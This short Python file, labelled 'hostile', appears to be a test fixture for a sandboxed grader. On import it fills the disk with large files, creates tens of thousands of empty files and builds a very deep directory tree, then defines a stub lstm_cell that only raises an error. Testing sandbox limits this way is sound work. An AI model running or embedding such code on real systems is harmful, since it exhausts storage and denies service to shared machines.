# hostile: writes as much as it can: large files, many files, a tree too deep to delete recursively
import os


def _attack():
    try:
        for n in range(40):
            with open(f"big{n}", "wb") as out:
                out.write(b"\0" * (8 << 20))
    except OSError:
        pass
    try:
        for n in range(30_000):
            open(f"f{n}", "w").close()
    except OSError:
        pass
    try:
        for _ in range(1500):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass


_attack()


def lstm_cell(*args):
    raise RuntimeError("done")
